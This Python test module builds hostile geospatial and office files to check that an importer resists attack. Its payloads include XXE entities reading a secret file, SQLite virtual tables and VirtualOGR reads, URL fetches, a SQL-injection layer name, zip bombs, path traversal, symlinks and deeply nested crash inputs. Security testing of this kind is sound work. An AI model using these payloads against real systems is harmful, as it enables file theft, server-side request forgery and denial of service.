"""Files that mean harm, by format and by what they are after: read, fetch, exhaust, crash.

Each maker writes its files into the target's folder and returns the one to deliver.
"""

import json
import random
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import numpy as np
import pyogrio.raw
import shapely
from libarchive import file_writer
from shapely.geometry.base import BaseGeometry

from tests.hostile.conftest import Target

POINT = shapely.Point(106.2, 20.3)
GML = """<?xml version="1.0"?>
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
 {head}>{before}<gml:featureMember><t:school xmlns:t="http://t" fid="1"><t:MA_TRUONG>A</t:MA_TRUONG>
<t:geom><gml:Point srsName="EPSG:4326"><gml:pos>106.2 20.3</gml:pos></gml:Point></t:geom></t:school>
</gml:featureMember></gml:FeatureCollection>"""
KML = """<?xml version="1.0"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Folder><name>schools</name>
{before}<Placemark><name>{name}</name><Point><coordinates>106.2,20.3</coordinates></Point></Placemark>
</Folder></Document></kml>"""

type Maker = Callable[..., Path]
HOSTILE: dict[str, Maker] = {}


def hostile(*kinds: str) -> Callable[[Maker], Maker]:
    """Register a maker under `format-aim-name` of each kind."""

    def register(maker: Maker) -> Maker:
        for kind in kinds:
            HOSTILE[kind] = maker
        return maker

    return register


def sound_geopackage(file: Path, layer: str = 'schools', rows: int = 3) -> Path:
    """A GeoPackage as GDAL writes it."""
    file.unlink(missing_ok=True)
    codes = np.array([f'T{number}' for number in range(rows)], dtype=object)
    pyogrio.raw.write(
        str(file), shapely.to_wkb(np.array([POINT] * rows)), [codes], np.array(['MA_TRUONG'], dtype=object),
        driver='GPKG', layer=layer, geometry_type='Point', crs='EPSG:4326',
    )  # fmt: skip
    return file


def edited_geopackage(file: Path, *statements: str) -> Path:
    """The same with its schema changed, past what SQLite itself would allow."""
    sound_geopackage(file)
    with closing(sqlite3.connect(file)) as database:
        database.execute('pragma writable_schema = on')
        for statement in statements:
            database.execute(statement)
        database.commit()
    return file


def virtual_table(name: str, module: str, opening: str = 'CREATE VIRTUAL TABLE') -> tuple[str, str]:
    """Statements that put a virtual table into the schema and register it as a layer."""
    sql = f'{opening} "{name}" USING {module}'.replace("'", "''")
    return (
        f"insert into sqlite_master values ('table', '{name}', '{name}', 0, '{sql}')",
        f"insert into gpkg_contents (table_name, data_type, identifier) values ('{name}', 'attributes', '{name}')",
    )


@hostile('gpkg-read-virtual-text')
def virtual_text(
    target: Target, file: str = 'virtual.gpkg', name: str = 'secret', opening: str = 'CREATE VIRTUAL TABLE'
) -> Path:
    module = f"VirtualText('{target.secret}', 'UTF-8', 1, POINT, DOUBLEQUOTE, ',')"
    return edited_geopackage(target.folder / file, *virtual_table(name, module, opening))


@hostile('gpkg-read-named-like-an-index')
def named_like_an_index(target: Target) -> Path:
    return virtual_text(target, 'rtree_name.gpkg', 'x using rtree')


@hostile('gpkg-read-comment-in-statement')
def comment_in_statement(target: Target) -> Path:
    return virtual_text(target, 'comment.gpkg', 'c', 'CREATE/* using rtree */VIRTUAL--x\nTABLE')


@hostile('gpkg-read-virtual-ogr')
def virtual_ogr(target: Target) -> Path:
    module = f"VirtualOGR('{target.secret}')"
    return edited_geopackage(target.folder / 'virtual_ogr.gpkg', *virtual_table('o', module))


@hostile('gpkg-fetch-virtual-ogr')
def virtual_ogr_web(target: Target) -> Path:
    module = f"VirtualOGR('/vsicurl/{target.url}/x.csv')"
    return edited_geopackage(target.folder / 'virtual_web.gpkg', *virtual_table('o', module))


@hostile('gpkg-read-dbstat')
def unusual_module(target: Target) -> Path:
    return edited_geopackage(target.folder / 'dbstat.gpkg', *virtual_table('d', 'dbstat'))


def view(name: str, body: str) -> tuple[str, ...]:
    """Statements that make a view, register it as a layer and take the sound layer away."""
    return (
        f'create view {name} as {body}',
        'delete from gpkg_contents', 'delete from gpkg_geometry_columns', 'delete from gpkg_ogr_contents',
        f"insert into gpkg_contents values ('{name}', 'features', '{name}', '', '2026-01-01', 0, 0, 1, 1, 4326)",
        f"insert into gpkg_geometry_columns values ('{name}', 'geom', 'POINT', 4326, 0, 0)",
    )  # fmt: skip


ENDLESS = 'with recursive t(fid) as (select 1 union all select fid + 1 from t)'


@hostile('gpkg-exhaust-endless-view')
def endless_view(target: Target) -> Path:
    body = f'{ENDLESS} select fid, fid as MA_TRUONG, (select geom from schools limit 1) as geom from t'
    return edited_geopackage(target.folder / 'endless.gpkg', *view('endless', body))


@hostile('gpkg-exhaust-register-is-a-view')
def register_is_view(target: Target) -> Path:
    return edited_geopackage(
        target.folder / 'register.gpkg',
        'alter table gpkg_contents rename to contents',
        f'create view gpkg_contents as {ENDLESS} select contents.* from contents, t',
    )


@hostile('gpkg-exhaust-nested-views')
def nested_views(target: Target) -> Path:
    """Each view reads the one before it four times over: 4³⁰ rows."""
    views = [f'create view v{n} as select a.* from v{n - 1} a, (select 1 union all select 2) b' for n in range(1, 40)]
    first = 'create view v0 as select fid, MA_TRUONG, geom from schools'
    return edited_geopackage(target.folder / 'nested.gpkg', first, *views, *view('last', 'select * from v39'))


@hostile('gpkg-read-generated-column')
def generated_column(target: Target) -> Path:
    return edited_geopackage(
        target.folder / 'generated.gpkg',
        'create table g (fid integer primary key, geom blob, MA_TRUONG text, '
        "x text generated always as (printf('%.*c', 1000000000, 'x')) virtual)",
        "insert into g (geom, MA_TRUONG) select geom, 'A' from schools",
        *view('unused', 'select 1')[1:4],
        "insert into gpkg_contents (table_name, data_type, identifier, srs_id) values ('g', 'features', 'g', 4326)",
        "insert into gpkg_geometry_columns values ('g', 'geom', 'POINT', 4326, 0, 0)",
    )


LAYER = "insert into gpkg_contents values ('{0}', 'features', '{0}', '', '2026-01-01T00:00:00Z', 0, 0, 1, 1, 4326)"
GEOMETRY_COLUMN = "insert into gpkg_geometry_columns values ('{0}', 'geom', 'POINT', 4326, 0, 0)"


@hostile('gpkg-exhaust-layers')
def many_layers(target: Target) -> Path:
    """Each of 600 layers takes GDAL some 10 ms to look into."""
    names = [f'l{number}' for number in range(600)]
    tables = [f'create table {name} (fid integer primary key, geom point)' for name in names]
    registered = [line.format(name) for name in names for line in (LAYER, GEOMETRY_COLUMN)]
    return edited_geopackage(target.folder / 'layers.gpkg', *tables, *registered)


@hostile('gpkg-read-table-of-sqlite')
def table_of_sqlite(target: Target) -> Path:
    """Layers that are SQLite's own tables and functions; GDAL knows none of them."""
    names = ['sqlite_master', 'pragma_database_list', 'generate_series']
    return edited_geopackage(target.folder / 'master.gpkg', *[LAYER.format(name) for name in names])


@hostile('gpkg-crash-name-is-sql')
def name_is_sql(target: Target) -> Path:
    """A layer whose name closes the quotes around it and drops a table."""
    name = "x'' ; drop table schools; --"
    table = f'create table "{name}" (fid integer primary key, geom point)'
    return edited_geopackage(target.folder / 'sql.gpkg', table, LAYER.format(name), GEOMETRY_COLUMN.format(name))


@hostile('gpkg-crash-name-not-utf-8')
def name_not_utf_8(target: Target) -> Path:
    """A layer's name in a code page of Windows."""
    name = "cast(x'7472b0ea6e67' as text)"
    return edited_geopackage(target.folder / 'latin.gpkg', LAYER.replace("'{0}'", '{0}').format(name))


@hostile('gpkg-exhaust-point-count')
def point_count(target: Target) -> Path:
    """A line that says that it has 4,294,967,295 points."""
    blob = (b'GP\0\1' + struct.pack('<i', 4326) + struct.pack('<BII', 1, 2, 0xFFFFFFFF)).hex()
    no_triggers = "delete from sqlite_master where type = 'trigger'"
    file = edited_geopackage(target.folder / 'points.gpkg', no_triggers)
    with closing(sqlite3.connect(file)) as database:
        database.execute(f"update schools set geom = x'{blob}' where fid = 2")
        database.commit()
    return file


@hostile('gpkg-crash-damaged-pages')
def damaged_pages(target: Target) -> Path:
    file = sound_geopackage(target.folder / 'damaged.gpkg', rows=5_000)
    content = bytearray(file.read_bytes())
    chance = random.Random(1)
    for position in chance.sample(range(200, len(content)), 2_000):
        content[position] = chance.randrange(256)
    file.write_bytes(content)
    return file


@hostile('gpkg-crash-broken-schema')
def broken_schema(target: Target) -> Path:
    return edited_geopackage(
        target.folder / 'schema.gpkg', "update sqlite_master set sql = 'create table (((' where name = 'schools'"
    )


@hostile('gpkg-crash-deep-geometry')
def deep_geometry(target: Target) -> Path:
    """A collection in a collection, 100,000 deep."""
    file = sound_geopackage(target.folder / 'deep.gpkg', rows=1)
    blob = b'GP\0\1' + struct.pack('<i', 4326) + struct.pack('<BII', 1, 7, 1) * 100_000
    with closing(sqlite3.connect(file)) as database:
        database.create_function('ST_IsEmpty', 1, lambda _: 0)
        for bound in ('MinX', 'MaxX', 'MinY', 'MaxY'):
            database.create_function(f'ST_{bound}', 1, lambda _: 0.0)
        database.execute('update schools set geom = ?', [blob])
        database.commit()
    return file


@hostile('gml-fetch-schema-include')
def schema_include(target: Target) -> Path:
    file = target.folder / 'include.gml'
    file.write_text(GML.format(head='', before=''), encoding='utf-8')
    file.with_suffix('.xsd').write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        f'<xs:include schemaLocation="{target.url}/x.xsd"/></xs:schema>',
        encoding='utf-8',
    )
    return file


@hostile('gml-read-schema-include')
def schema_include_file(target: Target) -> Path:
    file = schema_include(target).rename(target.folder / 'include_file.gml')
    xsd = (target.folder / 'include.xsd').rename(file.with_suffix('.xsd'))
    xsd.write_text(xsd.read_text(encoding='utf-8').replace(f'{target.url}/x.xsd', str(target.secret)))
    return file


@hostile('gml-read-entity')
def gml_entity(target: Target) -> Path:
    file = target.folder / 'entity.gml'
    text = GML.format(head='', before='').replace('?>', f'?><!DOCTYPE x [<!ENTITY s SYSTEM "{target.secret}">]>', 1)
    file.write_text(text.replace('>A<', '>&s;<'), encoding='utf-8')
    return file


@hostile('gml-exhaust-billion-laughs')
def billion_laughs(target: Target) -> Path:
    file = target.folder / 'laughs.gml'
    levels = ''.join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    text = GML.format(head='', before='').replace('?>', f'?><!DOCTYPE x [<!ENTITY l0 "ha">{levels}]>', 1)
    file.write_text(text.replace('>A<', '>&l11;<'), encoding='utf-8')
    return file


@hostile('gml-fetch-xlink')
def gml_xlink(target: Target) -> Path:
    file = target.folder / 'xlink.gml'
    before = f'<gml:featureMember xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{target.url}/f.gml#1"/>'
    file.write_text(GML.format(head='', before=before), encoding='utf-8')
    return file


@hostile('gml-fetch-schema-location')
def gml_schema_location(target: Target) -> Path:
    """A schema on the web is only a name: the file passes as data, and nothing is fetched."""
    file = target.folder / 'location.gml'
    file.write_text(GML.format(head=f'xsi:schemaLocation="http://t {target.url}/t.xsd"', before=''), encoding='utf-8')
    return file


@hostile('gml-crash-deep')
def gml_deep(target: Target) -> Path:
    file = target.folder / 'deep.gml'
    file.write_text(GML.format(head='', before='<gml:x>' * 100_000 + '</gml:x>' * 100_000), encoding='utf-8')
    return file


@hostile('gml-read-gfs')
def gfs_include(target: Target) -> Path:
    file = target.folder / 'gfs.gml'
    file.write_text(GML.format(head='', before=''), encoding='utf-8')
    file.with_suffix('.gfs').write_text(
        f'<!DOCTYPE x [<!ENTITY s SYSTEM "{target.secret}">]><GMLFeatureClassList>&s;</GMLFeatureClassList>',
        encoding='utf-8',
    )
    return file


@hostile('kml-fetch-network-link')
def network_link(target: Target) -> Path:
    file = target.folder / 'link.kml'
    before = f'<NetworkLink><Link><href>{target.url}/x.kml</href></Link></NetworkLink>'
    file.write_text(KML.format(head='', before=before, name='A'), encoding='utf-8')
    return file


@hostile('kml-read-entity')
def kml_entity(target: Target) -> Path:
    file = target.folder / 'entity.kml'
    head = f'<!DOCTYPE x [<!ENTITY s SYSTEM "file://{target.secret}">]>'
    file.write_text(KML.format(head=head, before='', name='&s;'), encoding='utf-8')
    return file


@hostile('kml-exhaust-folders')
def kml_folders(target: Target) -> Path:
    """Each of 20,000 folders is a layer."""
    file = target.folder / 'folders.kml'
    folders = ''.join(f'<Folder><name>{number}</name></Folder>' for number in range(20_000))
    file.write_text(KML.format(head='', before=f'</Folder>{folders}<Folder>', name='A'), encoding='utf-8')
    return file


@hostile('dxf-exhaust-layers')
def dxf_layers(target: Target) -> Path:
    """Each of 20,000 points is on a layer of its own."""
    file = target.folder / 'layers.dxf'
    points = ''.join(f'  0\nPOINT\n  8\nL{number}\n 10\n106.2\n 20\n20.3\n' for number in range(20_000))
    file.write_text(f'  0\nSECTION\n  2\nENTITIES\n{points}  0\nENDSEC\n  0\nEOF\n', encoding='ascii')
    return file


@hostile('kmz-exhaust-bomb')
def kmz_bomb(target: Target) -> Path:
    file = target.folder / 'bomb.kmz'
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr('doc.kml', b'<kml>' + b' ' * 300_000_000)
    return file


@hostile('zip-exhaust-bomb')
def zip_bomb(target: Target) -> Path:
    file = target.folder / 'bomb.zip'
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr('schools.csv', b'MA_TRUONG,lon,lat\n' + b'0' * 300_000_000)
    return file


@hostile('zip-exhaust-says-less')
def zip_says_less(target: Target) -> Path:
    """The directory of the archive says 100 bytes; the member unpacks to 200 MB."""
    file = zip_bomb(target).rename(target.folder / 'says_less.zip')
    content = bytearray(file.read_bytes())
    for signature, position in ((b'PK\1\2', 24), (b'PK\3\4', 22)):
        start = content.rindex(signature) + position
        content[start : start + 4] = struct.pack('<I', 100)
    file.write_bytes(content)
    return file


@hostile('zip-read-link')
def zip_link(target: Target) -> Path:
    file = target.folder / 'link.zip'
    with zipfile.ZipFile(file, 'w') as archive:
        info = zipfile.ZipInfo('schools.csv')
        info.external_attr = 0o120777 << 16
        archive.writestr(info, str(target.secret))
    return file


@hostile('zip-read-climbs-out')
def zip_climbs(target: Target) -> Path:
    file = target.folder / 'climbs.zip'
    with zipfile.ZipFile(file, 'w') as archive:
        archive.writestr('../../elsewhere/secret.csv', 'MA_TRUONG,lon,lat\nA,106.2,20.3\n')
    return file


@hostile('zip-exhaust-overlapping')
def zip_overlapping(target: Target) -> Path:
    """Thousands of names for one stretch of bytes."""
    file = target.folder / 'overlapping.zip'
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr('a0.csv', b'0' * 9_000_000)
        first = archive.infolist()[0]
        for number in range(1, 3_000):
            info = zipfile.ZipInfo(f'a{number}.csv')
            info.header_offset, info.CRC = first.header_offset, first.CRC
            info.compress_size, info.file_size = first.compress_size, first.file_size
            info.compress_type = first.compress_type
            archive.filelist.append(info)
            archive.NameToInfo[info.filename] = info
        setattr(archive, '_didModify', True)  # noqa: B010  # it is not known to type checkers
    return file


@hostile('tab-read-view')
def tab_view(target: Target) -> Path:
    file = target.folder / 'view.tab'
    file.write_text(f'!table\n!version 300\n\nOpen Table "{target.secret}" As s\nCreate View v As Select * From s\n')
    file.with_suffix('.dat').write_bytes(b'x')
    return file


@hostile('tab-read-seamless')
def tab_seamless(target: Target) -> Path:
    file = target.folder / 'seamless.tab'
    file.write_text(
        '!table\n!version 300\nDefinition Table\n  Type NATIVE Charset "Neutral"\n"\\IsSeamless" = "TRUE"\n'
    )
    file.with_suffix('.dat').write_bytes(b'x')
    return file


@hostile('mif-crash-counts')
def mif_counts(target: Target) -> Path:
    file = target.folder / 'counts.mif'
    file.write_text('Version 300\nColumns 2000000000\n  a Char(10)\nData\nPoint 106.2 20.3\n')
    file.with_suffix('.mid').write_text('"A"\n')
    return file


@hostile('shp-crash-counts')
def shp_counts(target: Target) -> Path:
    """A polygon that says it has two billion points."""
    file = target.folder / 'counts.shp'
    _shapefile(file, shapely.box(106.2, 20.3, 106.21, 20.31))
    content = bytearray(file.read_bytes())
    content[100 + 8 + 4 + 32 : 100 + 8 + 4 + 40] = struct.pack('<ii', 2_000_000_000, 2_000_000_000)
    file.write_bytes(content)
    return file


@hostile('shp-exhaust-sparse-table')
def shp_sparse_table(target: Target) -> Path:
    """A table of 2 GB that holds nothing."""
    file = target.folder / 'sparse.shp'
    _shapefile(file, POINT)
    table = file.with_suffix('.dbf')
    content = bytearray(table.read_bytes())
    content[4:8] = struct.pack('<i', 2_000_000_000)
    with table.open('wb') as opened:
        opened.write(content)
        opened.truncate(2_000_000_000)
    return file


@hostile('shp-read-vrt-inside')
def shp_is_vrt(target: Target) -> Path:
    file = target.folder / 'vrt.shp'
    file.write_text(f'<OGRVRTDataSource><OGRVRTLayer name="s"><SrcDataSource>{target.secret}</SrcDataSource>'
                    '</OGRVRTLayer></OGRVRTDataSource>')  # fmt: skip
    for suffix in ('.shx', '.dbf'):
        file.with_suffix(suffix).write_bytes(b'x')
    return file


def _shapefile(file: Path, geometry: BaseGeometry) -> None:
    pyogrio.raw.write(
        str(file), shapely.to_wkb(np.array([geometry])), [np.array(['A'], dtype=object)],
        np.array(['MA_TRUONG'], dtype=object), driver='ESRI Shapefile', geometry_type=geometry.geom_type,
        crs='EPSG:4326',
    )  # fmt: skip


@hostile('geojson-read-pipeline')
def geojson_pipeline(target: Target) -> Path:
    file = target.folder / 'pipeline.geojson'
    file.write_text(json.dumps({'type': 'gdal_streamed_alg', 'command_line': f'gdal vector read {target.secret}'}))
    return file


@hostile('geojson-crash-deep')
def geojson_deep(target: Target) -> Path:
    file = target.folder / 'deep.geojson'
    file.write_text('{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"MA_TRUONG":'
                    + '[' * 200_000 + ']' * 200_000
                    + '},"geometry":{"type":"Point","coordinates":[106.2,20.3]}}]}')  # fmt: skip
    return file


@hostile('geojson-crash-deep-collections')
def geojson_collections(target: Target) -> Path:
    file = target.folder / 'collections.geojson'
    nested = '{"type":"GeometryCollection","geometries":[' * 50_000 + ']}' * 50_000
    file.write_text('{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"MA_TRUONG":"A"},'
                    f'"geometry":{nested}}}]}}')  # fmt: skip
    return file


@hostile('geojson-exhaust-columns')
def geojson_columns(target: Target) -> Path:
    """Each feature has columns of its own: 300,000 columns."""
    file = target.folder / 'columns.geojson'
    features = [
        {'type': 'Feature', 'properties': {f'c{row}_{n}': 1 for n in range(100)}, 'geometry': None}
        for row in range(600)
    ]
    file.write_text(json.dumps({'type': 'FeatureCollection', 'features': features}))
    return file


@hostile('csv-exhaust-one-line')
def csv_one_line(target: Target) -> Path:
    file = target.folder / 'one_line.csv'
    file.write_bytes(b'MA_TRUONG,lon,lat\n"' + b'a' * 200_000_000)
    return file


@hostile('csv-exhaust-columns')
def csv_columns(target: Target) -> Path:
    file = target.folder / 'columns.csv'
    names = ','.join(f'c{number}' for number in range(1_000_000))
    file.write_text(f'MA_TRUONG,lon,lat,{names}\nA,106.2,20.3\n')
    return file


@hostile('csv-crash-nul')
def csv_nul(target: Target) -> Path:
    file = target.folder / 'nul.csv'
    file.write_bytes(b'\0' * 1_000_000)
    return file


@hostile('csv-exhaust-wkt')
def csv_wkt(target: Target) -> Path:
    file = target.folder / 'wkt.csv'
    file.write_text('MA_TRUONG,wkt\nA,"' + 'GEOMETRYCOLLECTION(' * 200_000 + ')' * 200_000 + '"\n')
    return file


@hostile('xlsx-exhaust-bomb')
def xlsx_bomb(target: Target) -> Path:
    file = target.folder / 'bomb.xlsx'
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr('xl/workbook.xml', '<workbook><sheets><sheet name="s" r:id="1" '
                         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets>'
                         '</workbook>')  # fmt: skip
        archive.writestr('xl/worksheets/sheet1.xml', b'<x>' + b' ' * 300_000_000)
    return file


@hostile('xlsx-read-entity')
def xlsx_entity(target: Target) -> Path:
    file = target.folder / 'entity.xlsx'
    with zipfile.ZipFile(file, 'w') as archive:
        archive.writestr(
            'xl/workbook.xml', f'<!DOCTYPE x [<!ENTITY s SYSTEM "{target.secret}">]><workbook>&s;</workbook>'
        )
    return file


OPEN_DOCUMENT = ' '.join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ('office', 'table', 'text')
)


def write_ods(file: Path, rows: str, before: str = '') -> Path:
    content = f'{before}<office:document-content {OPEN_DOCUMENT}><office:body><office:spreadsheet>'
    content += f'<table:table table:name="s">{rows}</table:table></office:spreadsheet></office:body>'
    with zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr('mimetype', 'application/vnd.oasis.opendocument.spreadsheet', zipfile.ZIP_STORED)
        archive.writestr('content.xml', f'{content}</office:document-content>')
    return file


@hostile('ods-exhaust-repeated-cells')
def ods_repeated(target: Target) -> Path:
    """One cell, 16,384 times in each of a million rows."""
    cell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/>'
    rows = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    return write_ods(target.folder / 'repeated.ods', rows)


@hostile('ods-read-entity')
def ods_entity(target: Target) -> Path:
    rows = '<table:table-row><table:table-cell office:value-type="string"><text:p>&s;</text:p></table:table-cell>'
    entity = f'<!DOCTYPE x [<!ENTITY s SYSTEM "{target.secret}">]>'
    return write_ods(target.folder / 'entity.ods', f'{rows}</table:table-row>', entity)


@hostile('xls-crash-truncated')
def xls_truncated(target: Target) -> Path:
    """A compound file whose directory points behind its end: calamine ends in a panic."""
    file = target.folder / 'truncated.xls'
    file.write_bytes(b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\xff' * 4_000)
    return file


@hostile('7z-exhaust-bomb')
def packed_bomb(target: Target) -> Path:
    file = target.folder / 'bomb.7z'
    with file_writer(str(file), '7zip') as archive:
        archive.add_file_from_memory('a.csv', 200_000_000, b'\0' * 200_000_000)
    return file


@hostile('rar-crash-header')
def rar_header(target: Target) -> Path:
    file = target.folder / 'header.rar'
    file.write_bytes(b'Rar!\x1a\x07\x01\x00' + b'\xff' * 10_000)
    return file


@hostile('fgb-crash-header')
def fgb_header(target: Target) -> Path:
    file = target.folder / 'header.fgb'
    file.write_bytes(b'fgb\x03fgb\x00' + struct.pack('<I', 0x7FFFFFFF) + b'\xff' * 10_000)
    return file


@hostile('dxf-exhaust-nested-blocks')
def dxf_blocks(target: Target) -> Path:
    """Each block holds ten of the one before it: 10⁹ lines."""
    lines = ['0', 'SECTION', '2', 'BLOCKS']
    for level in range(10):
        lines += ['0', 'BLOCK', '8', '0', '2', f'B{level}', '70', '0', '10', '0', '20', '0']
        inner = ['0', 'LINE', '8', 'A', '10', '0', '20', '0', '11', '1', '21', '1']
        lines += inner if level == 0 else ['0', 'INSERT', '8', 'A', '2', f'B{level - 1}', '10', '0', '20', '0'] * 10
        lines += ['0', 'ENDBLK']
    lines += ['0', 'ENDSEC', '0', 'SECTION', '2', 'ENTITIES', '0', 'INSERT', '8', 'A', '2', 'B9', '10', '0', '20', '0']
    file = target.folder / 'blocks.dxf'
    file.write_text('\n'.join([*lines, '0', 'ENDSEC', '0', 'EOF', '']))
    return file


@hostile('dxf-exhaust-array')
def dxf_array(target: Target) -> Path:
    """One block, inserted 32,000 by 32,000 times."""
    block = '0 SECTION 2 BLOCKS 0 BLOCK 8 0 2 B 70 0 10 0 20 0 0 LINE 8 A 10 0 20 0 11 1 21 1 0 ENDBLK 0 ENDSEC'
    insert = '0 SECTION 2 ENTITIES 0 INSERT 8 A 2 B 10 0 20 0 70 32000 71 32000 44 1 45 1 0 ENDSEC 0 EOF'
    lines = [*block.split(), *insert.split(), '']
    file = target.folder / 'array.dxf'
    file.write_text('\n'.join(lines))
    return file


@hostile('dgn-crash-random')
def dgn_random(target: Target) -> Path:
    file = target.folder / 'random.dgn'
    file.write_bytes(b'\x08\x09\xfe\x02' + random.Random(2).randbytes(50_000))
    return file


@hostile('gdb-read-link')
def gdb_link(target: Target) -> Path:
    folder = target.folder / 'link.gdb'
    folder.mkdir(exist_ok=True)
    for name in ('a00000001.gdbtable', 'a00000001.gdbtablx'):
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target.secret)
    return folder


@hostile('gdb-crash-random')
def gdb_random(target: Target) -> Path:
    folder = target.folder / 'random.gdb'
    folder.mkdir(exist_ok=True)
    for name in ('a00000001.gdbtable', 'a00000001.gdbtablx', 'gdb'):
        (folder / name).write_bytes(random.Random(3).randbytes(20_000))
    return folder
